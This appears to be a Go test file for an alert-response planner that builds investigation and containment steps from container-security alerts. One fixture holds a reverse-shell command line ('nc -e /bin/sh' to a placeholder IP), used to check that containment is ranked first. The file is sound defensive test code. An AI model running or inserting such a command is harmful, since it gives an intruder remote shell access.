package mitigate

import (
	"slices"
	"strings"
	"testing"

	"github.com/falconer-go/falconer/event"
)

// TestFirst holds what the short form begins with.
func TestFirst(t *testing.T) {
	pod := map[string]any{
		"alert.rule": "Drop and execute new binary in container", "alert.priority": "Critical", "container.id": "dca990c78804", "k8s.ns.name": "shop",
		"k8s.pod.name": "web-1", "proc.exepath": "/tmp/x", "proc.name": "x", "proc.pname": "sh", "proc.aname[2]": "containerd-shim", "evt.arg.flags": "EXE_UPPER_LAYER",
	}
	with := func(base map[string]any, more ...string) map[string]any {
		m := make(map[string]any)
		for k, v := range base {
			m[k] = v
		}
		for i := 0; i < len(more); i += 2 {
			m[more[i]] = more[i+1]
		}
		return m
	}
	of := func(source string, fields map[string]any) First {
		return For(alertWith(t, source, fields)).First
	}

	f := of("syscall", pod)
	if len(f.Facts) == 0 || len(f.Facts) > maxFacts {
		t.Errorf("%d facts", len(f.Facts))
	}
	if n := len(f.Actions); n < 2 || n > maxLooking {
		t.Fatalf("%d actions", n)
	}
	ready := func(s Snippet) {
		if !s.ready {
			t.Errorf("%s has something to fill in, in an alert that names everything:\n%s", s.Name, s.Body)
		}
	}
	for i, a := range f.Actions {
		for _, s := range a.Snippets {
			if ready(s); s.Changes {
				t.Errorf("action %d of %d: snippet %s changes something", i+1, len(f.Actions), s.Name)
			}
		}
	}
	contains := 0
	for _, o := range f.Then {
		if len(o.Find) == 0 || len(o.Do) == 0 {
			t.Errorf("outcome %q: %q", o.Find, o.Do)
		}
		for _, s := range o.Snippets {
			ready(s)
			contains++
		}
	}
	if contains == 0 {
		t.Error("no outcome contains anything")
	}
	if !has(f.Actions, "find-exec-in-audit-log") {
		t.Error("an exec is likely, and no action looks for it")
	}
	if f.Caution != nil || !strings.Contains(f.Ask.String(), "web-1") {
		t.Errorf("caution %q, ask %q", f.Caution, f.Ask)
	}

	for name, fields := range map[string]map[string]any{
		"namespace": with(pod, "k8s.ns.name", "kube-system"),
		"host":      with(pod, "alert.hostname", "prod-control-plane-1"),
	} {
		if f := of("syscall", fields); f.Caution == nil {
			t.Errorf("no caution because of the %s", name)
		}
	}

	// What the alert lacks, and what it says of a rule that nobody knows.
	f = of("k8s_audit", map[string]any{"alert.rule": "Any", "ka.user.name": "dana", "ka.target.resource": "pods", "ka.target.namespace": "shop"})
	if len(f.Actions) == 0 || !slices.ContainsFunc(f.Actions, func(a Action) bool { return len(a.Snippets) > 0 }) {
		t.Errorf("no command for an unknown rule: %+v", f.Actions)
	}
	f = of("k8s_audit", map[string]any{"alert.rule": "Create Privileged Pod", "ka.user.name": "dana", "ka.target.resource": "pods", "ka.target.namespace": "shop"})
	if !has(f.Actions, "k8s-audit-event") {
		t.Errorf("the answer is not in the alert, and no action asks the audit log: %+v", f.Actions)
	}

	// A test tool is confirmed first, and nothing is stopped at once.
	f = For(sample(t)).First
	if len(f.Actions) == 0 || f.Actions[0].Snippets == nil {
		t.Errorf("actions on a test tool: %+v", f.Actions)
	}
}

// TestContainingFirst: what a sure alert most likely comes to stands first.
func TestContainingFirst(t *testing.T) {
	contains := func(o Outcome) bool {
		return slices.ContainsFunc(o.Snippets, func(s Snippet) bool { return s.Changes })
	}
	for cmdline, want := range map[string]bool{"nc -e /bin/sh 203.0.113.9 4444": true, "nc -l 8080": false} {
		e, err := event.Parse([]byte(`{"rule": "Launch Suspicious Network Tool in Container", "source": "syscall", "priority": "Notice",
			"time": "2026-01-02T03:04:05Z", "output": "a tool", "output_fields": {"proc.name": "nc", "proc.cmdline": "` + cmdline + `", "proc.pname": "sh",
			"container.id": "3ad7b26ded6d", "k8s.ns.name": "shop", "k8s.pod.name": "api-6c9f8d7b5c-x2x8q"}}`))
		if err != nil {
			t.Fatal(err)
		}
		then := For(e).First.Then
		if len(then) < 3 || contains(then[0]) != want {
			t.Errorf("%s: the first outcome contains: %v, want %v", cmdline, !want, want)
		}
	}
}

// TestKeepFirst: what saves evidence stands among the first actions where an outcome would
// destroy it, behind the first check where minutes count.
func TestKeepFirst(t *testing.T) {
	for _, x := range []struct {
		urgency Urgency
		likely  Text
		want    string
	}{
		{AtOnce, nil, "check keep look"},
		{Today, nil, "check look keep"},
		{AtOnce, Text{{Text: "a test"}}, "check look keep"},
		{AtOnce, nil, "check keep look more"},
	} {
		action := func(name string) Action { return Action{Snippets: []Snippet{{Name: name}}} }
		d := draft{Plan: &Plan{Verdict: Verdict{Urgency: x.urgency, Likely: x.likely}, First: First{
			Actions: []Action{action("check"), action("look")},
			Then: []Outcome{
				{Snippets: []Snippet{{Name: "early", keeps: true, ready: true}}}, // nothing is changed then
				{Snippets: []Snippet{{Name: "open", keeps: true}, {Name: "keep", keeps: true, ready: true}, {Name: "stop", Changes: true}}},
				{Snippets: []Snippet{{Name: "late", keeps: true, ready: true}, {Name: "stop", Changes: true}}},
			},
		}}}
		if strings.HasSuffix(x.want, "more") { // it stands there already, too late
			d.First.Actions = append(d.First.Actions, action("keep"), action("more"))
		}
		d.keepFirst()
		var got []string
		for _, a := range d.First.Actions {
			got = append(got, a.Snippets[0].Name)
		}
		if got := strings.Join(got, " "); got != x.want {
			t.Errorf("urgency %v, likely %v: %s, want %s", x.urgency, x.likely != nil, got, x.want)
		}
	}
}
